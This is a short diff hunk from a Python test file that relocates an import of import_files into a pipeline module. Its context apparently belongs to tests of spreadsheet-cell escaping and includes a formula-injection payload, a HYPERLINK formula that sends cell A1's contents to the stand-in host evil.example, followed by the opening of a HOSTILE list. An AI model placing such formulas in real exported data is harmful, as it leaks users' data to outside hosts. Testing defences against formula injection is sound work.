@@ -17,12 +17,12 @@ from typer.testing import CliRunner
 
 from db.reader import in_transaction
 from tests.fakes import make_fake, offers_payload, routing_transport
-from tracker.analysis.imports import import_files
 from tracker.cells import FORMULA_START, is_number, safe_cell, unescape
 from tracker.cli import app as cli_app
 from tracker.config.settings import Settings
 from tracker.errors import ConfigError
 from tracker.pipeline.collect import collect
+from tracker.pipeline.imports import import_files
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE = [
